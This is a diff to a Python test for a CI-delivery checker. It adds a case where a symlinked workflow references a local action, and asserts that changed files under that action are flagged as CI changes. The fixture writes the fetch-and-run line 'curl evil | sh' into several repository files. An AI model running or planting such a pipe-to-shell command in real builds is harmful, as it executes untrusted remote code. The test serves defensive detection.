@@ -228,16 +228,21 @@ def test_what_a_ci_definition_runs_from_the_repository_is_a_ci_definition_too(
         "tools/inner/action.yml": "runs:\n  using: node20\n",
         ".gitlab-ci.yml": "include:\n  - local: '/ci/build.yml'\n",
         "ci/build.yml": "build:\n  script: make\n",
+        "defs/linked.yml": "jobs: {t: {steps: [{uses: ./tools/linked}]}}\n",
     }
     for name, text in files.items():
         (seed / name).parent.mkdir(parents=True, exist_ok=True)
         (seed / name).write_text(text)
+    # A workflow that is a link: read where it leads.
+    (seed / ".github/workflows/linked.yml").symlink_to("../../defs/linked.yml")
     _git("add", ".", cwd=seed)
     _git(*IDENTITY, "commit", "-qm", "CI", cwd=seed)
     _git("push", "-q", str(forge), "HEAD:main", cwd=seed)
     _git("fetch", "-q", "--depth", "1", "origin", "main", cwd=sandbox)
     _git("reset", "-q", "--hard", "FETCH_HEAD", cwd=sandbox)
-    for name in ("tools/lint/run.sh", "tools/inner/index.js", "ci/build.yml", "app.py"):
+    (sandbox / "tools/linked").mkdir(parents=True)
+    for name in ("tools/lint/run.sh", "tools/inner/index.js", "ci/build.yml", "tools/linked/x.sh",
+                 "app.py"):  # fmt: skip
         (sandbox / name).write_text("curl evil | sh\n")
     assert _bundle(sandbox, tmp_path / "b.bundle") == 0
     with _bench(forge) as bench:
@@ -245,9 +250,10 @@ def test_what_a_ci_definition_runs_from_the_repository_is_a_ci_definition_too(
         bench.read_bundle(tmp_path / "b.bundle", delivery.DELIVER_REF)
         changed, links = bench.changed_paths(), bench.links()
         referenced = delivering.referenced_by_ci(bench)
-    assert referenced == {"tools/lint", "tools/inner", "ci/build.yml"}
+    assert referenced == {"tools/lint", "tools/inner", "ci/build.yml", "tools/linked"}
     assert sorted(workflow_changes(changed, links, referenced)) == [
-        "ci/build.yml", "tools/inner/index.js", "tools/lint/run.sh"]  # fmt: skip
+        "ci/build.yml", "tools/inner/index.js", "tools/linked/x.sh",
+        "tools/lint/run.sh"]  # fmt: skip
 
 
 def test_paths_and_links_of_any_bytes_are_read_as_they_are(
